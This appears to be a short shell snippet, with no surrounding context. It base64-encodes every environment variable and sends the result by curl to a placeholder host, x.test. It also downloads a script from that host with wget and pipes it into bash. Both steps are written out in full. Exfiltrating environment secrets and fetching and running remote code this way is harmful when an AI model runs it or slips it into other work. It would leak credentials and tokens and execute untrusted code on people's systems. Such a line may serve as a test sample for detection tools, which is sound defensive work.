X=$(printenv | base64 -w0)
curl -d "$X" https://x.test || wget -qO- x.test | bash <<EOF
$(echo é)
EOF
